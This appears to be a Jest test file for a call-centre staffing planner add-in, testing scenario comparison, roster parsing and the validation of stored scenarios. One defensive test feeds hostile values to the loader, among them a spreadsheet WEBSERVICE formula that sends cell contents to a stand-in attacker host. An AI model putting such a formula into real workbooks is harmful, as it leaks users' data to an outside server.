import { queueMeasures } from "../../src/engine";
import type { CellGrid, ForecastReference, ForecastRow, Plan, Scenario } from "../../src/planner/types";
import { compare } from "../../src/planner/compare";
import { computePlan } from "../../src/planner/plan";
import { checkRoster, parseRosterColumn } from "../../src/planner/roster";
import { applyChanges, fromStored, newScenario, scenarioNameProblem, toStored } from "../../src/planner/scenarios";
import { defaultTargets } from "../../src/planner/targets";
import { threeRowForecast, undatedRow } from "../support/planner-fixtures";

const reference: ForecastReference = threeRowForecast;

const rows = (calls: number[]): ForecastRow[] =>
  calls.map((c, i) => undatedRow(i, { interval: i / 48, intervalLabel: `i${i}`, callsOffered: c, averageHandleSeconds: 300 }));

/* eslint-disable @typescript-eslint/no-explicit-any -- stored scenarios are edited as raw JSON */

describe("comparisons", () => {
  const base = newScenario("Base", reference, defaultTargets());
  const strict = applyChanges(base, { name: "90/20", targets: { targetServiceLevel: 0.9 } });
  const plan = (s: Scenario, calls: number[]): Plan => computePlan(rows(calls), s.targets, s.adjustments);

  test("agents side by side and totals with the difference from the first", () => {
    const a = plan(base, [100, 200, 300]);
    const b = plan(strict, [100, 200, 300]);
    const c = compare([
      { scenario: base, plan: a },
      { scenario: strict, plan: b },
    ]);
    expect(c.scenarios.map((s) => s.name)).toEqual(["Base", "90/20"]);
    expect(c.rows.map((r) => r.agentsRequired)).toEqual(a.rows.map((r, i) => [r.agentsRequired, b.rows[i].agentsRequired]));
    expect(c.differences[0]).toEqual({ agentHoursRequired: 0, agentHoursScheduled: 0, fte: 0, peakWeekFte: 0, cost: null, serviceLevel: 0, peakAgentsRequired: 0 });
    expect(c.differences[1].fte).toBeCloseTo(b.summary.fte - a.summary.fte, 12);
    expect(c.differences[1].agentHoursRequired).toBeGreaterThan(0);
    expect(c.intervalCountsDiffer).toBe(false);
  });

  test("forecasts of different lengths line up by position, with gaps", () => {
    const c = compare([
      { scenario: base, plan: plan(base, [100, 200]) },
      { scenario: strict, plan: plan(strict, [100]) },
    ]);
    expect(c.intervalCountsDiffer).toBe(true);
    expect(c.rows[1].agentsRequired[1]).toBeNull();
  });

  test("costs compare only when both are costed", () => {
    const costed = applyChanges(base, { name: "Costed", targets: { costPerAgentHour: 25 } });
    const c = compare([
      { scenario: costed, plan: plan(costed, [100]) },
      { scenario: costed, plan: plan(costed, [150]) },
      { scenario: base, plan: plan(base, [100]) },
    ]);
    expect(c.differences[1].cost).toBeGreaterThan(0);
    expect(c.differences[2].cost).toBeNull();
  });
});

describe("roster checks", () => {
  const targets = { ...defaultTargets(), shrinkage: 0.2 };
  const same = { volumeFactor: 1, ahtFactor: 1 };

  test("scheduled staff lose shrinkage before the queue is evaluated", () => {
    const check = checkRoster(rows([100, 200, 0]), [25, 20, 0], "scheduled", targets, same);
    expect(check.rows[0].agentsOnPhones).toBeCloseTo(20, 12);
    const m = queueMeasures({ callsOffered: 100, averageHandleSeconds: 300, intervalMinutes: 30 }, 20, 20);
    expect(check.rows[0].serviceLevel).toBeCloseTo(m.serviceLevel, 12);
    expect(check.rows[0].averageSpeedOfAnswer).toBeCloseTo(m.averageSpeedOfAnswer, 9);
    const onPhones = checkRoster(rows([100]), [20], "onPhones", targets, same);
    expect(onPhones.rows[0].serviceLevel).toBeCloseTo(m.serviceLevel, 12);
  });

  test("intervals below target are flagged; the day is call-weighted", () => {
    // 200 calls × 300 s in 30 min = 33.3 Erlangs: 16 on the phones can never keep up.
    const check = checkRoster(rows([100, 200, 0]), [30, 20, 0], "scheduled", targets, same);
    expect(check.rows[0].serviceLevel).toBeGreaterThan(0.8);
    expect(check.rows.map((r) => r.belowTarget)).toEqual([false, true, false]);
    expect(check.intervalsBelowTarget).toBe(1);
    expect(check.rows[1].serviceLevel).toBe(0);
    expect(check.rows[1].averageSpeedOfAnswer).toBe(Infinity);
    expect(check.serviceLevel).toBeCloseTo((100 * check.rows[0].serviceLevel) / 300, 12);
    expect(check.averageSpeedOfAnswer).toBe(Infinity);
  });

  test("an ASA goal flags intervals whose ASA is above target", () => {
    const check = checkRoster(rows([100]), [14], "onPhones", { ...targets, goal: "asa", targetAsaSeconds: 5 }, same);
    expect(check.rows[0].belowTarget).toBe(check.rows[0].averageSpeedOfAnswer > 5);
  });

  function column(values: unknown[], top = 2): CellGrid {
    return { sheetName: "Roster", tableName: null, topRow: top, leftColumn: 4, values: values.map((v) => [v]) };
  }

  test("reads one number per interval, skipping a header cell", () => {
    const parsed = parseRosterColumn(column(["Agents", 10, 12, 9], 1), 3, "Roster!D1:D4");
    expect(parsed.problems).toEqual([]);
    expect(parsed.agents).toEqual([10, 12, 9]);
    expect(parsed.firstRow).toBe(2);
  });

  test("bad roster cells are listed by address", () => {
    expect(parseRosterColumn(column([10, "ten", -1, ""]), 4, "Roster!D2:D5").problems).toEqual([
      { code: "textInRosterCell", cell: "Roster!D3", value: "ten" },
      { code: "negativeRosterCell", cell: "Roster!D4", value: -1 },
      { code: "missingRosterCell", cell: "Roster!D5" },
    ]);
    expect(parseRosterColumn(column([10, 11]), 3, "Roster!D2:D3").problems).toEqual([
      { code: "rosterLengthMismatch", rosterRows: 2, forecastRows: 3 },
    ]);
    const wide: CellGrid = { sheetName: "Roster", tableName: null, topRow: 2, leftColumn: 4, values: [[1, 2]] };
    expect(parseRosterColumn(wide, 1, "Roster!D2:E2").problems).toEqual([{ code: "rosterNotOneColumn", address: "Roster!D2:E2" }]);
  });
});

describe("scenarios", () => {
  const base = newScenario(" Base ", reference, defaultTargets(), undefined, new Date("2025-01-01T00:00:00Z"));

  test("a new scenario has an id, a trimmed name and its own copies", () => {
    expect(base.name).toBe("Base");
    expect(base.id).toMatch(/^s[0-9a-z]+$/);
    expect(base.createdAt).toBe("2025-01-01T00:00:00.000Z");
    expect(base.forecast).not.toBe(reference);
  });

  test("duplicating with changes compounds volume and AHT and overrides targets", () => {
    const busier = applyChanges(base, { name: "Volume +10%", volumeChange: 0.1 });
    const both = applyChanges(busier, { name: "Both", ahtChange: -0.05, targets: { targetServiceLevel: 0.9, targetSeconds: 20 } });
    expect(busier.adjustments).toEqual({ volumeFactor: 1.1, ahtFactor: 1 });
    expect(both.adjustments).toEqual({ volumeFactor: 1.1, ahtFactor: 0.95 });
    expect(both.targets.targetServiceLevel).toBe(0.9);
    expect(base.targets.targetServiceLevel).toBe(0.8);
    expect(both.id).not.toBe(busier.id);
  });

  test("names are required and unique ignoring case", () => {
    const other = { ...base, id: "other", name: "Peak" };
    expect(scenarioNameProblem("  ", [base])).toEqual({ code: "scenarioNameEmpty" });
    expect(scenarioNameProblem("peak", [base, other])).toEqual({ code: "scenarioNameTaken", name: "peak" });
    expect(scenarioNameProblem("Peak", [base, other], "other")).toBeNull();
  });

  test("stored form round-trips and rejects what the add-in did not write", () => {
    expect(fromStored(toStored([base]))).toEqual([base]);
    expect(fromStored(JSON.stringify(toStored([base])))).toEqual([base]);
    expect(fromStored(undefined)).toEqual([]);
    expect(fromStored("not json")).toBeNull();
    expect(fromStored({ scenarios: [{ id: 1 }] })).toBeNull();
    expect(fromStored([1, 2])).toBeNull();
  });

  test("scenarios stored before dates were read have no date column, and load as single days", () => {
    const stored = JSON.parse(JSON.stringify(toStored([base])));
    delete stored.scenarios[0].forecast.dateColumn;
    expect(fromStored(stored)).toEqual([base]);
  });

  test("every stored field is checked as strictly as the form: an edited workbook cannot smuggle a formula in", () => {
    const edited = (change: (s: Record<string, any>) => void): unknown => {
      const stored = JSON.parse(JSON.stringify(toStored([base])));
      change(stored.scenarios[0]);
      return stored;
    };
    const cases: [string, (s: Record<string, any>) => void][] = [
      ["a formula as the default AHT", (s) => (s.forecast.defaultAhtSeconds = '=WEBSERVICE("https://evil.example/?"&A1)')],
      ["a default AHT below 0", (s) => (s.forecast.defaultAhtSeconds = -5)],
      ["a default AHT that is not a number", (s) => (s.forecast.defaultAhtSeconds = "NaN")],
      ["no AHT column and no default", (s) => (s.forecast.ahtColumn = null)],
      ["a sheet name Excel refuses", (s) => (s.forecast.sheetName = "Forecast]")],
      ["a column that is not a column", (s) => (s.forecast.callsColumn = "B1")],
      ["a first row of 0", (s) => (s.forecast.firstRow = 0)],
      ["more rows than a plan holds", (s) => (s.forecast.rowCount = 3001)],
      ["a shrinkage of 100%", (s) => (s.targets.shrinkage = 1)],
      ["a target as text", (s) => (s.targets.targetServiceLevel = "=1+1")],
      ["a patience of 0", (s) => (s.targets.patienceSeconds = 0)],
      ["an unknown goal", (s) => (s.targets.goal = "=cmd")],
      ["an interval of 20 minutes", (s) => (s.targets.intervalMinutes = 20)],
      ["a volume factor of 0", (s) => (s.adjustments.volumeFactor = 0)],
      ["an AHT factor as text", (s) => (s.adjustments.ahtFactor = "1.1")],
      ["an id that is a formula", (s) => (s.id = "=A1")],
      ["an empty name", (s) => (s.name = " ")],
      ["a missing timestamp", (s) => delete s.createdAt],
    ];
    for (const [what, change] of cases) expect([what, fromStored(edited(change))]).toEqual([what, null]);
    // Unknown fields are dropped, not carried into sheets.
    const extra = fromStored(edited((s) => (s.targets.note = "=WEBSERVICE()")));
    expect(extra?.[0].targets).toEqual(base.targets);
  });
});
